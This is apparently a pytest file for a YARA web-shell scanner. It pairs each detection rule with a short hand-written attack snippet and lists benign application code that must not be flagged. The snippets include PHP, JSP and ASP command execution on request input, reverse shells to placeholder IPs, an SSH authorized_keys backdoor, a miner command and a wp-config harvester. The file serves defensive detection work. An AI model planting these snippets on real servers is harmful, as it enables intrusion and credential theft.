"""Every default rule: a description, a reference, and a snippet we wrote that it catches.

The snippets are small, hand-written examples of each technique (not copies of real shells); the real
shells and the stock applications are measured by bench/rules_quality.py. The benign snippets are the
shapes that once caused false positives on stock applications.
"""

from __future__ import annotations

import random
import re

import pytest
import yara_x

from aftermath.review.scanners.yara import YaraScanner, default_rule_files

# rule -> a snippet written for this test that shows the technique
SNIPPETS: dict[str, bytes] = {
    # PHP
    "php_exec_on_request_input": b"<?php echo `$_GET['q']`; ?>",
    "php_request_as_function": b"<?php $_POST['f']($_POST['a']); ?>",
    "php_eval_encoded_payload": b"<?php $d = 'base64_decode'; $x = $d('ZWNobyAxOw=='); ?>",
    "php_obfuscated_code": b'<?php $n = strrev("tressa"); $n($z); ?>',
    "php_encrypted_loader": (b"<?php $key='0123456789abcdef'; $b=file_get_contents('php://input');"
                             b"$p=openssl_decrypt($b,'AES128',$key); eval($p); ?>"),
    "php_include_uploaded_or_input": b"<?php include($_FILES['f']['tmp_name']); ?>",
    "php_shell_toolkit": (b"<?php if(isset($_POST['go'])){ echo shell_exec($_POST['go']); }"
                          b"echo passthru('uname -a'); echo ini_get('safe_mode'); readfile('/etc/passwd'); ?>"),
    "php_uploader": b"<?php move_uploaded_file($_FILES['u']['tmp_name'], './' . $_FILES['u']['name']); ?>",
    "php_exec_request_variable": b"<?php $c = $_REQUEST['c']; $o = ''; system($c); ?>",
    "php_socket_shell": (b"<?php $s = fsockopen('203.0.113.5', 443); $p = proc_open('/bin/sh -i', "
                         b"array(0 => $s, 1 => $s, 2 => $s), $pipes); ?>"),
    "php_extract_request": b"<?php @extract($_POST); echo $f($a); ?>",
    "php_database_console": (b"<form><textarea name=q></textarea></form><?php $r = mysql_query($q);"
                             b" $t = mysql_query('SHOW TABLES'); ?>"),
    "php_split_function_names": b"<?php $f = 'ev'.'al'; ?>",
    "php_application_backdoor": b"<?php $id = wp_create_user($_GET['u'], $_GET['p']); ?>",
    "php_command_console": (b"<form method=post><input name=c></form><?php $c = $_POST['c'];"
                            b" echo `$c`; echo `whoami`; ?>"),
    "php_file_manager": (b"<?php $d = $_GET['d']; $h = opendir($d); while ($e = readdir($h)) echo $e;"
                         b" if ($_POST['del']) unlink($f); file_put_contents($f, $_POST['body']);"
                         b" chmod($f, 0777); echo php_uname(); ?>"
                         b"<form method=post><textarea name=body></textarea></form>"),
    "php_legacy_file_manager": (b"<form method=post><input name=dir></form><?php $h = opendir($dir);"
                                b" while ($f = readdir($h)) echo $f; if ($del) unlink($dir . $f);"
                                b" fwrite(fopen($dir . $name, 'w'), $body); ?>"),
    "php_eval_packed_blob": (b"<?php $f = 'x'; "
                             b"eval($f('aWYgKGlzc2V0KCRfUE9TVFsneCddKSkgeyBldmFsKCRfUE9TVFsneCddKTsgfQ==')); ?>"),
    # JSP / JSPX
    "jsp_exec_on_request_input": b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    "jsp_runs_commands": b'<%@ page import="java.io.*" %><% new ProcessBuilder("id").start(); %>',
    "jsp_class_loader": (b"<%! class L extends ClassLoader { } %><% javax.crypto.Cipher c = "
                         b'javax.crypto.Cipher.getInstance("AES"); byte[] b = c.doFinal(new sun.misc.BASE64Decoder()'
                         b".decodeBuffer(request.getReader().readLine())); %>"),
    "jsp_script_engine": (b'<% new javax.script.ScriptEngineManager().getEngineByName("js")'
                          b'.eval(request.getParameter("s")); %>'),
    "jsp_file_manager": b'<% java.io.File f = new File(request.getParameter("p")); f.delete(); %>',
    "jsp_unicode_escaped": (b"<% \\u0052\\u0075\\u006e\\u0074\\u0069\\u006d"
                            b"\\u0065\\u002e\\u0067\\u0065\\u0074\\u0052 %>"),
    "jsp_tunnel": (b"<% java.nio.channels.SocketChannel s = "
                   b"java.nio.channels.SocketChannel.open(); "
                   b'String cmd = request.getHeader("X-Op"); session.setAttribute("s", s); %>'),
    "jsp_file_writer": (b'<jsp:scriptlet>new java.io.FileOutputStream(request.getParameter("n"))'
                        b'.write(request.getParameter("b").getBytes());</jsp:scriptlet>'),
    "jsp_database_console": b'<% stmt.executeQuery(request.getParameter("sql")); %>',
    # classic ASP
    "asp_eval_request": b'<%eval request("k")%>',
    "asp_shell_objects": b'<% Set s = Server.CreateObject("WScript.Shell"): s.Run Request("c") %>',
    "asp_file_manager": (b'<% Set f = CreateObject("Scripting.FileSystemObject"): p = Request("p")\n'
                         b"f.DeleteFile p\nf.CopyFile p, p & \".bak\"\nSet t = f.CreateTextFile(p)\n"
                         b"For Each d In f.Drives: Next %>"),
    "asp_encoded_script": b'<%@ Language="VBScript.Encode" %><% #@~^CAAAAA==abcdefgh^#~@ %>',
    "asp_obfuscated_execute": b'<% Execute(StrReverse(")""c""(tseuqer lave")) %>',
    "asp_file_writer": (b'<% Set o = Server.CreateObject("Scripting.FileSystemObject")\n'
                        b'Set t = o.CreateTextFile(Server.MapPath(Request("n")))\nt.Write Request("b") %>'),
    "asp_hidden_execute": b'<% s = "Q2hy": execute(decode(s)) %>',
    "asp_database_console": b'<% Set c = Server.CreateObject("ADODB.Connection"): c.Open Request("dsn") %>',
    # ASP.NET
    "aspx_exec_on_request_input": (b'<%@ WebHandler Language="C#" Class="H" %> var i = new ProcessStartInfo();'
                                   b' i.Arguments = Request.QueryString["c"];'),
    "aspx_eval_or_load_request": b'<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>',
    "aspx_file_manager": (b'<%@ Page Language="C#" %><% var d = Request["d"]; foreach (var x in '
                          b"DriveInfo.GetDrives()) {} Directory.GetFiles(d); File.Delete(d); File.Move(d, d); %>"),
    "aspx_file_writer": b'<%@ Page Language="C#" %><% File.WriteAllText(Server.MapPath(Request["n"]), "x"); %>',
    # Perl, Python, ColdFusion, Node
    "perl_cgi_exec": b"#!/usr/bin/perl\nuse CGI;\nmy $c = param('c');\nprint `$c`;\n",
    "perl_eval_encoded": b"use MIME::Base64;\nmy $c = decode_base64($blob);\neval $c;\n",
    "perl_cgi_file_browser": (b"#!/usr/bin/perl\nprint \"Content-type: text/html\\n\\n\";\n"
                              b"my $p = $ENV{'QUERY_STRING'};\nopendir(D, $p);\nopen(F, \"< $p\");\n"),
    "perl_socket_shell": (b"use Socket; socket(S, PF_INET, SOCK_STREAM, 6); connect(S, $addr);"
                          b' open(STDIN, ">&S"); exec("/bin/sh -i");'),
    "python_cgi_exec": b"import cgi, os\nf = cgi.FieldStorage()\nprint(os.popen(f.getvalue('c')).read())\n",
    "python_remote_command": (b"import subprocess\nc = chan.recv(1024)\n"
                              b"out = subprocess.check_output(c, shell=True)\n"),
    "python_socket_shell": (b"import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.7', 9))\n"
                            b"os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n"),
    "coldfusion_exec": b'<cfexecute name="cmd.exe" arguments="/c #form.c#" timeout="5"></cfexecute>',
    "coldfusion_file_manager": b'<cffile action="write" file="#form.path#" output="#form.body#">',
    "node_exec_on_request_input": (b"const cp = require('child_process');\n"
                                   b"app.get('/x', (req, res) => cp.exec(req.query.c));\n"),
    "perl_eval_decoded_blob": (b"#!/usr/bin/perl\n$code = 'cHJpbnQgMTs=';\n"
                               b"sub b64decode { local($_) = @_; tr|A-Za-z0-9+/||cd; return $_; }\n"
                               b"eval(b64decode($code));\n"),
    "php_exec_function_chosen_by_name": b"<?php $f = 'passthru'; $f($c . ' 2>&1'); ?>",
    "php_socket_reuse_shell": b"<?php system('./reuse ' . $_SERVER['REMOTE_ADDR'] . ' ' . $_SERVER['REMOTE_PORT']); ?>",
    "php_eval_spelled_by_letters": b"<?php $g = 'E'.'v'.'a'.'l'; ?>",
    "php_command_in_concatenation": (b"<?php $cmd = $_POST['cmd']; passthru('cd /tmp && ' . $cmd . ' 2>&1'); ?>"),
    "php_mysql_plants_system_file": (b"<?php $q = \"select '#pragma namespace(x)' into dumpfile "
                                     b"'c:/windows/system32/wbem/mof/x.mof'\"; mysql_query($q); ?>"),
    "php_variable_function_on_request": b"<?php $k = str_rot13('flfgrz'); $k($_COOKIE['z']); ?>",
    "php_exec_decoded_request": b"<?php $c = base64_decode($_POST['q']); exec($c . ' 2>&1', $out); ?>",
    "php_upload_to_requested_path": b"<?php copy($_FILES['f']['tmp_name'], $_POST['to']); ?>",
    "asp_execute_decoded_session_code": (b'<% if session("k")="" then:session("k")=dec(blob):end if:'
                                         b'k=session("k"):execute k:function dec(s):for i=1 to len(s):'
                                         b'dec=dec&chr(asc(mid(s,i,1))-1):next:end function %>'),
    "asp_execute_request_into_variables": (b'<% For Each n In Request.Form\n'
                                           b'execute ""&n&"=request.form("""&n&""")"\nNext %>'),
    "asp_file_operation_on_request": (b'<% Set f = CreateObject("Scripting.FileSystemObject")\n'
                                      b'f.DeleteFile Request.QueryString("p") %>'),
    "aspx_packet_sniffer": (b'<%@ Page Language="C#" %><script runat="server">'
                            b'var s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP);'
                            b' s.IOControl(IOControlCode.ReceiveAll, on, off);</script>'),
    "aspx_form_file_writer": (b'<%@ Page Language="C#" %><script runat="server">void Save() { var w = new StreamWriter('
                              b'PathBox.Text); w.Write(BodyBox.Text); w.Close(); }</script>'),
    "aspx_keyed_file_transfer": (b'<%@ Page Language="C#" %><script runat="server">const string KEY = "k1";\n'
                                 b'void Page_Load() { if (Request.Params["key"] != KEY) return;\n'
                                 b'Response.WriteFile(Request.Params["f"]); }</script>'),
    "php_safe_mode_bypass_reader": (b"<?php $t = tempnam('/tmp', 'x'); copy('compress.zlib://' . $_GET['f'], $t);"
                                    b" readfile($t); ?>"),
    "php_config_harvester": (b"<?php foreach (file('/etc/passwd') as $l) { $u = explode(':', $l)[0];"
                             b" @readfile(\"/home/$u/public_html/wp-config.php\"); } ?>"),
    "php_exec_fallback_chain": (b"<?php function run($c) { if (function_exists('passthru')) { passthru($c); }"
                                b" elseif (function_exists('system')) { system($c); } elseif (is_callable('exec'))"
                                b" { exec($c, $o); } elseif (function_exists('popen')) { pclose(popen($c, 'r')); }"
                                b" } ?>"),
    "php_file_operation_on_request": b"<?php if ($_POST['do'] == 'rm') { unlink($_POST['target']); } ?>",
    "php_non_alphanumeric_code": (b"<?php $_ = []; $__ = $_ . ''; $___ = $__[3]; " + b"$__ .= $___ ^ $__; " * 12
                                  + b"$_[$___]($_[$__]); ?>"),
    "php_register_globals_upload": b'<?php if ($upfile) { copy($upfile, "$target/$upfile_name"); } ?>',
    # backdoors, miners, ransom notes (other files of the default set)
    "reverse_shell_one_liner": b"bash -i >& /dev/tcp/203.0.113.1/4444 0>&1",
    "coin_miner": b"./run -o stratum+tcp://pool.example.net:3333 -u wallet",
    "ssh_key_backdoor_script": (b"echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleKeyExampleKeyAB x'"
                                b" >> /root/.ssh/authorized_keys"),
}

# shapes from stock applications that must stay clean
BENIGN: dict[str, bytes] = {
    # a Markdown code span in a WordPress doc comment (wp-admin/includes/file.php)
    "wordpress-doc-comment": (b"<?php\n/**\n * Override the action with `$_POST['action']` when it is set.\n */\n"
                              b"function wp_handle_upload( &$file ) { return $file; }\n"),
    # array_map's callback comes first: the request array is only data
    "array-map-intval": b"<?php $ids = array_map( 'intval', $_REQUEST['post'] ); ?>",
    "array-filter-request": b"<?php $dbs = array_filter($_POST['selected_dbs']); ?>",
    # an application running a fixed program with a variable, without a form or request input
    "mailer-popen": b"<?php $mail = popen($sendmail, 'w'); fputs($mail, $body); pclose($mail); ?>",
    # template engines include compiled templates through data: URLs
    "template-data-url": b"<?php include('data://text/plain,' . urlencode($code)); ?>",
    # Python's pydoc evaluates a request for help, not a web request
    "pydoc": b"def help(request):\n    return eval(request)\n",
    # a CMS falls back to its template called "system" (Joomla's HtmlDocument); nothing calls a variable
    "template-named-system": (b"<?php if (!is_file($path)) { $dir = $base . '/system'; $template = 'system'; }"
                              b" return $this->render($template, $params); ?>"),
    # an application renames its own object with the name a form sent (phpMyAdmin's table operations)
    "method-on-request-value": b"<?php if ($table->rename($_POST['new_name'])) { echo 'ok'; } ?>",
    # Blade's compiled views use $__env and $__data: underscores followed by letters are names
    "blade-compiled-view": b"<?php " + b"echo $__env->make('x', $__data)->render(); " * 20 + b"?>",
    # an application copies an upload it took from $_FILES to a name it chose
    "upload-from-files": (b"<?php $tmp = $_FILES['doc']['tmp_name']; $doc_name = basename($_FILES['doc']['name']);"
                          b' move_uploaded_file($tmp, "$dir/$doc_name"); ?>'),
    # a test asserts that an image's binary signature is absent (Drupal's image style tests)
    "png-signature-in-a-test": (b"<?php $this->assertStringNotContainsString(chr(137) . chr(80) . chr(78)"
                                b" . chr(71) . chr(13) . chr(10), $raw); ?>"),
}

RULE_NAME = re.compile(rb"^rule\s+(\w+)", re.M)


def default_rule_names() -> set[str]:
    """The rule names in the shipped rule files."""
    return {m.decode() for p in default_rule_files() for m in RULE_NAME.findall(p.read_bytes())}


@pytest.fixture(scope="module")
def scanner() -> YaraScanner:
    return YaraScanner.from_paths()


def test_every_default_rule_has_a_snippet_of_its_own() -> None:
    shipped = default_rule_names() - {"ransom_note_text", "ransom_note_onion_contact"}  # tested in test_ransomware
    assert shipped == set(SNIPPETS)


@pytest.mark.parametrize("rule", sorted(SNIPPETS))
def test_each_rule_catches_the_technique_it_describes(scanner: YaraScanner, rule: str) -> None:
    found = scanner.scan("/x", SNIPPETS[rule])
    assert rule in {f.rule.split(":", 1)[1] for f in found}
    assert all(f.reason and not f.reason.startswith("matches YARA rule") for f in found)


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_shapes_of_stock_applications_stay_clean(scanner: YaraScanner, name: str) -> None:
    assert scanner.scan("/x", BENIGN[name]) == []


def test_every_web_shell_rule_names_a_reference() -> None:
    for path in default_rule_files():
        if path.stem.startswith("webshells"):
            text = path.read_text()
            assert text.count("reference = ") == len(RULE_NAME.findall(text.encode())), path.name


def test_a_jsp_page_writing_request_text_through_a_file_variable_is_a_file_writer(scanner: YaraScanner) -> None:
    page = (b'<% String p = request.getParameter("p"); File target = new File(p);\n'
            b'PrintWriter w = new PrintWriter(target); w.println(request.getParameter("t")); w.close(); %>')
    assert "webshells_java:jsp_file_writer" in {f.rule for f in scanner.scan("/x.jsp", page)}


# Strings rewritten for speed, each beside the form it replaced: a nocase word followed by \s* or \s+, or an
# alternation of hex pairs, scanned text at 0.5-1.4 GB/s alone, where other strings scan at 3-9 GB/s (the
# default set: 465 MiB/s before, 593-623 MiB/s after; docs/benchmarks.md). They must match the same texts.
REWRITTEN = [
    ("ransom_notes.yar", r"/\btox\s*(id|chat)\b/ nocase",
     [r"/\btox(id|chat)\b/ nocase", r"/\btox\s+(id|chat)\b/ nocase"]),
    ("ransom_notes.yar", r"/\b(ransom|payment|pay\s+us)\b/ nocase",
     [r"/\b(ransom|payment)\b/ nocase", r"/\bpay\s+us\b/ nocase"]),
    ("webshells.yar", r"""/['"]\\x(65|45)\\x(76|56)\\x(61|41)\\x(6[cC]|4[cC])/""",
     [r"""/['"]\\x[46]5\\x[57]6\\x[46]1\\x[46][cC]/"""]),
    ("webshells.yar", r"""/['"]\\x(61|41)\\x(73|53)\\x(73|53)\\x(65|45)\\x(72|52)\\x(74|54)/""",
     [r"""/['"]\\x[46]1\\x[57]3\\x[57]3\\x[46]5\\x[57]2\\x[57]4/"""]),
]
TOKENS = ["tox", "TOX", "Tox", "id", "ID", "chat", "Chat", " ", "  ", "\t", "\n", "de", "s", "_", "pay", "PAY",
          "us", "US", "ransom", "Payment", "x", '"', "'", "\\x", "65", "45", "76", "56", "61", "41", "6c", "6C",
          "4c", "4C", "4l", "73", "53", "72", "52", "74", "54", "66", "35"]


def _matches(strings: list[str], texts: list[bytes]) -> list[bool]:
    defs = "\n".join(f"$s{i} = {s}" for i, s in enumerate(strings))
    rules = yara_x.compile(f"rule r {{ strings: {defs} condition: any of them }}")
    return [bool(rules.scan(t).matching_rules) for t in texts]


@pytest.mark.parametrize(("file", "old", "new"), REWRITTEN, ids=["tox", "pay", "hex_eval", "hex_assert"])
def test_strings_rewritten_for_speed_match_what_they_replaced(file: str, old: str, new: list[str]) -> None:
    shipped = next(p for p in default_rule_files() if p.name == file).read_text()
    assert all(s in shipped for s in new) and old not in shipped
    rng = random.Random(7)
    texts = [b"tox id", b"TOX  Chat", b"toxid", b"detox id", b"tox ids", b"pay us", b"PAY\n US", b"payus",
             b"repay us", b"ransomware", b"a payment.", b'"\\x65\\x76\\x61\\x6c"', b"'\\x45\\x56\\x41\\x4C",
             b'"\\x61\\x73\\x73\\x65\\x72\\x74"', b"'\\x41\\x53\\x53\\x45\\x52\\x54", b'"\\x65\\x76\\x61\\x4l']
    texts += ["".join(rng.choice(TOKENS) for _ in range(rng.randint(1, 14))).encode() for _ in range(4000)]
    got_old, got_new = _matches([old], texts), _matches(new, texts)
    assert got_old == got_new
    assert 0 < sum(got_new) < len(texts)  # the texts tell them apart: some match, some do not
